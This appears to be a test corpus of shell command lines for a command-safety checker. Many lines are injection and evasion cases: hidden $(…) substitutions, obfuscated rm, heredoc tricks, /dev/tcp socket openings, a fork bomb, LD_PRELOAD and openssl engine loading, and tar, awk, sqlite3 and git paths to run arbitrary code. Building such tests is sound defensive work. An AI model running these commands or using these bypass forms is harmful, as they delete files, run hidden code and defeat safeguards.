yq -Pi . f
yq e -i . f
yq -s x f
yq --split-exp=x f
yq --front-matter=process -i x f
ag --pager=x y
ag --workers 1 -z x
rg --pre-glob x --pre y z
rg -zn x
rg --hostname-b=x y
fd -tf -x rm
fd . --exec-b rm
fd -l
file -Cm x
file -bz x
file --compile -m x
file -zZ x
dmesg -TC
dmesg -wc
journalctl -fu x --vacuum-files=1
journalctl --sync
journalctl -n5 --rotate
journalctl -u x -M y
journalctl --cursor-f x
hostname -bx
hostname -F x
arp -s x y
route -n add x
iptables -nL -F
iptables -L x y
iptables -t nat -D x
iptables-save -f x
mount -l -o remount x
mount -t x y z
mount x
swapon --show -a
# Third look: signatures, names of integers, options joined to numbers, words that are several, versions that the network tells
git log --format=%+G?
git log --format=%-GG
git log --format='% GS'
git for-each-ref --sort=signature
git for-each-ref --sort=-signature:key
git for-each-ref --format='%(*signature:key)'
git tag --sort=signature
git branch --sort=signature:grade
git branch --sort -*signature
git shortlog --group=format:%+GS
jaq --arg -n v -i . f
jaq --indent -x -i . f
GREP='touch m #' zgrep x f
GREP=./p xzgrep x f
GREP=./p bzgrep x f
find . -exec env -u + rm {} \\;
find . -exec sort -t + -o x {} \\;
find . -exec echo $X {} \\;
GREP=./p find . -exec zgrep a {} \\;
RANDOM='a[$(touch m)]'
SRANDOM='a[$(touch m)]'
for RANDOM in 'a[$(touch m)]'; do :; done
for SECONDS in 'a[$(touch m)]'; do :; done
read RANDOM < f
f() { local RANDOM='a[$(touch m)]'; }; f
coproc PATH { ls; }; ls
coproc BASH_ENV { ls; }
printf -- %n PATH
printf a{%n,PATH}
ulimit -n10
ulimit -c0
ulimit -Su5
sysctl -f
sysctl -f ./evil.conf
sysctl -n -f x
openssl x509 -in http://127.0.0.1:8/x -noout -text
openssl crl -in http://127.0.0.1:8/x -noout -text
openssl verify http://127.0.0.1:8/x
openssl pkey -in org.openssl.engine:/tmp/e.so:k -noout
sqlite3 -readonly db "select edit/**/('a','touch m')"
sqlite3 -readonly db "select \\"edit\\"('a','touch m')"
sqlite3 -readonly db 'select [edit](1,2)'
sqlite3 -readonly s{x,'elect edit(1,2)'} 'select 1'
sqlite3 -readonly s* 'select 1'
uniq -f 1{,a} b
uniq -f 1* b
nice -n 1{,/../rm} ls
nice -n 1* ls
env -u A{,/rm} ls
sudo -u r{oot,m} ls
timeout -s K{,/x} 5 ls
git -C a{,b} status
git -C a* log
xargs -I X{,/y} ls
nvidia-smi -lgc=300
brew -v install x
go version
go env GOPATH
az --version
bazelisk --version
sls --help
vercel --version
ss -tr
last -d
who --lookup
gh extension list
echo "${x:-$(rm y)}"
echo $((1+$(rm x)))
echo $(( x[$(rm y)] ))
[[ -t a[$(rm)] ]]
case $(ls) in a) : ${PATH:=x};; esac
for ((i=0;i<a[$(rm x)];i++)); do :; done
exec 3<>/dev/tcp/h/1
exec 3</dev/udp/h/1
cat <>/dev/tcp/h/1
trap - EXIT
PROMPT_COMMAND='rm x'
[ a -a -v b[$(c)] ]
test "$(rm x)" = y
while IFS= read -r x; do eval "$x"; done < f
time -- rm x
git status >&2 | tee -a x
ls 2>&1 >&x
echo x >& y
date -f x -s y
(cd /; rm x)
$(echo rm) x
"$@"
${CMD} x
$'\\162\\155' x
ls | xargs -0 -n1 -I{} {}
env --chdir=/ rm x
stdbuf -oL rm x
find / -newer x -execdir {} +
yes | unzip a.zip
unzip a.zip <<< A
gpg -e -r x@y.z f
gpg --encrypt --recipient=x@y.z f
cp -n a b{,c}
mv -n --update a b
git push origin main:main --for
git push origin HEAD --delet
git apply --unsafe-paths x
rsync -a --del a/ b/
kubectl apply --prune -f x
docker volume rm x
# Fourth look: the lexer's corners, variables that are expressions, programs' own languages
 && rm x
cat <<'E' | sh\nrm x\nE
cat <<E\n`touch x`\nE
cat <<E\n${x:-$(touch x)}\nE
cat <<"A B"\nx\nA B\nrm x
cat <<E <<F\n1\nE\n$(touch x)\nF
cat << \\E\n$(touch x)\nE\nrm x
cat <<E;rm x\na\nE
cat <<E&&rm x\na\nE
cat <<''\n$(rm x)\n\nrm x
cat <<E\na\\\nE\nrm x
cat <<E\na\\\nE\nE\nrm x
echo a\\\n; rm x
ec\\\nho $(rm x)
l\\\ns; r\\\nm x
ls '\n'; rm x
ls $'\\'; rm x
ls "a\\"; rm x"; rm y
ls $"$(rm x)"
ls $"a`rm x`"
echo "`echo \\"\\`touch x\\`\\"`"
echo `echo \\`touch x\\``
echo "${x#$(touch x)}"
echo ${x/$(touch x)/}
echo ${x:$(touch x):1}
echo ${x[$(touch x)]}
echo ${#x[$(touch x)]}
echo ${x^^$(touch x)}
echo ${x@P}
x='$(touch y)'; echo ${x@P}
x='a[$(touch y)]'; echo $((x))
x='a[$(touch y)]'; echo ${a[x]}
x='a[$(touch y)]'; [[ x -eq 1 ]]
x='a[$(touch y)]'; [[ $x -eq 1 ]]
x='a[$(touch y)]'; ((x))
x='a[$(touch y)]'; echo ${z:x}
x='a[$(touch y)]'; for ((;x;)); do :; done
x='a[$(touch y)]'; let x
x='a[$(touch y)]'; test -v "$x"
x='a[$(touch y)]'; [[ -v $x ]]
x='a[$(touch y)]'; printf -v "$x" b
x='a[$(touch y)]'; unset "$x"
x='a[$(touch y)]'; echo $[x]
x='a[$(touch y)]'; declare -i z=x
x='a[$(touch y)]'; z=([x]=1)
x='a[$(touch y)]'; echo "${@:x}"
x='a[$(touch y)]'; wait -n $x
x=rm; $x y
x=rm; "$x" y
x=r y=m; $x$y z
x='rm y'; $x
x=(rm y); "${x[@]}"
for x in rm; do $x y; done
echo $[$(touch x)]
echo {a,$(touch x)}
echo {a..$(touch x)}
[[ a =~ $(touch x) ]]
[[ a == @(b|$(touch x)) ]]
case a in $(touch x)) ;; esac
case a in a) rm x;; esac
case a in a) ;& b) rm x;; esac
case a in a) ls;;& *) rm x;; esac
a=1 b=$(touch x) ls
a+=$(touch x)
a=($(touch x))
a[$(touch x)]=1
a=([$(touch x)]=1)
declare -A a=([$(touch x)]=1)
ls <(rm x) >(rm y)
ls > >(rm y)
ls 2> >(tee f)
ls <<< $(touch x)
exec 5<f; ls <&5 >&6
exec 3>f
ls >&$x
ls >${x}
ls <$x >"$y"
cat < <(touch x)
cat 0<>f
cat 3<>f
ls >|f
ls >>f
ls &>>f
ls 1>&2 2>f
>f ls
2>f ls
{ ls; } > f
(ls) > f
if ls; then ls; fi > f
for i in a; do ls; done > f
while ls; do break; done >> f
f() { ls; } > g; f
f() ( rm x ); f
function f { ls; rm x; }; f
ls() { command rm x; }; ls
unset -f ls; ls() { rm x; }; ls
eval ls
eval "$(ls)"
. /dev/stdin <<< 'rm x'
bash f
bash -c '$0 x' rm
bash -c "$x"
bash -ic ls
bash --rcfile f -i -c ls
bash --init-file f -c ls
sh -c 'ls' ; sh -c 'rm x'
sh +c ls
dash -c 'rm x'
fish -c 'ls'
busybox ls
toybox rm x
!!
!ls
^ls^rm
fg
%1
ls; :(){ :|:& };:
ls ';' rm; rm x
[ x ] && [ y ]; [ $(rm x) ]
test `rm x`
ls "$(<f)" ; $(<f)
$(<f)
`<f`
echo $(<f)>g
printf %s x>f
printf '%b' x | sh
printf '%q' x | xargs rm
echo x|tee f
echo x |& sh
yes | rm -i x
ls|xargs -n1 rm
ls | while read -r f; do rm "$f"; done
find . | while IFS= read -r f; do mv "$f" x; done
ls | for i in 1; do rm x; done
ls | { read x; rm $x; }
ls | ( rm x )
ls | if true; then rm x; fi
ls -la; \\rm x
\\rm x
"rm" x
r""m x
r\\m x
$'\\x72m' x
/bin/rm x
~/ls
a/b/ls
/tmp/ls
/usr/local/bin/ls
/usr/bin/../../tmp/ls
/proc/self/cwd/ls
find . -fprintf out %p
find . -fls out
find . -ok rm {} \\;
find . -okdir rm {} +
find -files0-from - -delete
find . -name x -delete -print
find . -regextype posix-egrep -exec sh {} ;
fd --exec-batch=rm
fd -HIx rm
rg --pre ./x foo
rg --pre=./x foo
rg --hostname-bin ./x foo
rg --search-zip --pre cat foo
rg -z foo
ack --output=x --ackrc=./rc foo
awk '{print > "out"}' f
awk '{print | "sh"}' f
awk -f prog.awk f
gawk -l ./ext 'BEGIN{}' f
awk -v x=1 -e '{print >>"f"}' a
awk '{ printf "%s", $0 >> FILENAME ".bak" }' f
awk '@load "filefuncs"; BEGIN{}' f
awk 'BEGIN { @include "x.awk" }' f
awk --profile 'BEGIN{}' f
awk -pout 'BEGIN{}' f
awk --dump-variables=out 'BEGIN{}'
awk -dout 'BEGIN{}'
awk --pretty-print=out '{print}' f
awk -oout '{print}' f
gawk -D '{print}' f
awk 'BEGIN{printf "x" |& "sh"}'
sed -n 'w out' f
sed -n '/a/w out' f
sed 's/a/b/w out' f
sed -s -i s/a/b/ f
sed -ni p f
sed -n --in-place=.b p f
sed -f script.sed f
sed 'y/a/b/;W out' f
sed --file=script f
sed -n '$!{h;d};x;w out' f
sed -ne p -ne 'w out' f
sed -E 's/(.*)/\\1/gew out' f
yq -i '.a=1' f
yq eval -i '.a=1' f
yq -s '.a' f
xmllint --output out f
xmllint --noout --xinclude http://h/f
xmlstarlet ed -L -u a -v b f
column -t f > f2
sqlite3 x.db 'select load_extension("./x")'
sqlite3 x.db '.shell rm x'
sqlite3 x.db '.output f' 'select 1'
sqlite3 x.db "select writefile('f','x')"
sqlite3 x.db 'pragma journal_mode=wal'
sqlite3 x.db 'with a as (select 1) delete from t'
sqlite3 -cmd '.shell x' x.db 'select 1'
sqlite3 -init f x.db 'select 1'
sqlite3 x.db 'attach "y.db" as y; select 1'
sqlite3 x.db 'select edit("a")'
sqlite3 x.db 'vacuum into "f"'
sqlite3 x.db 'explain query plan delete from t; delete from t'
mysql -e 'select 1 into outfile "x"'
git diff --output=f
git log --output=f
git remote update
git submodule status && git submodule update
git rev-list --all --objects | git cat-file --batch-check --textconv
git cat-file --textconv HEAD:f
git cat-file --filters HEAD:f
git archive -o out HEAD
git archive --remote=ssh://h/x HEAD
git update-index --refresh
git diff-files && git update-index --again
git symbolic-ref HEAD refs/heads/x
git update-ref refs/x HEAD
git difftool -y -x ./x
git help --web log
git var GIT_EDITOR && $(git var GIT_EDITOR) f
git for-each-ref --shell --format='%(refname)' | sh
git for-each-ref --format='x=%(refname); rm x' --shell | bash
git credential reject
printf -v 'a[$(touch x)]' y
printf -v PATH .
read -r 'a[$(touch x)]' <<< y
readonly PATH=.
trap 'rm x' DEBUG; ls
complete -C 'rm x' ls
compgen -C 'rm x'
compgen -W '$(rm x)'
compgen -F f
bind -x '"a":rm x'
mapfile -C 'rm x' -c 1 a < f
readarray -C 'rm x' a < f
fc -e ./x
history -w f
while read x; do rm "$x"; done < f
env X=1 rm x
env -S 'rm x'
env LD_PRELOAD=./x ls
strace -o f ls
strace ls
gdb -batch -ex 'shell rm x'
gdb -p 1
perf record ls
perf stat -o f ls
time -o f ls
/usr/bin/time -o f ls
openssl s_client -connect h:443
openssl x509 -in f -out g
openssl x509 -in f -noout -text -out g
openssl req -new -key k -out f
openssl rand -out f 10
openssl rand -writerand f 10
openssl enc -d -in f -out g
openssl dgst -sign k -out s f
openssl version -a; rm
openssl asn1parse -in f -out g
openssl crl -in f -CAfile g -out h
openssl verify -engine ./x f
openssl x509 -engine ./x -in f
openssl x509 -provider ./x -in f
openssl speed -engine ./x
gpg --list-keys
gpg --export -o f
gpg --import f
gpg --verify f
gpg -d -o out f
gpg --output out -d f
tar tf a --to-command=rm
tar -tf a --checkpoint-action=exec=rm
tar tf a -I ./x
tar tf a --use-compress-program=./x
tar tvf a --index-file=f
tar tf h:a
tar tf a --rsh-command=./x
tar -tf a -F ./x -M
tar xf a
tar -t --delete -f a
tar tf a --owner-map=f --remove-files
tar --diff -f a -O f; rm
tar tf a --totals --one-top-level -x
unzip -l a.zip && unzip a.zip
unzip -p a.zip x > y
unzip -d x a.zip
unzip -v -o a.zip -d y
zip -sf a.zip
zip -T a.zip
zip -TT ./x -T a.zip
zipinfo a.zip | sh
mapfile -C 'rm x' -c 1 f
readarray -C x f
mapfile -t PATH < f
mapfile -n 'a[$(rm x)]' f
mapfile -t f < <(rm x)
tar tf a --wildcards --to-command=x
"""
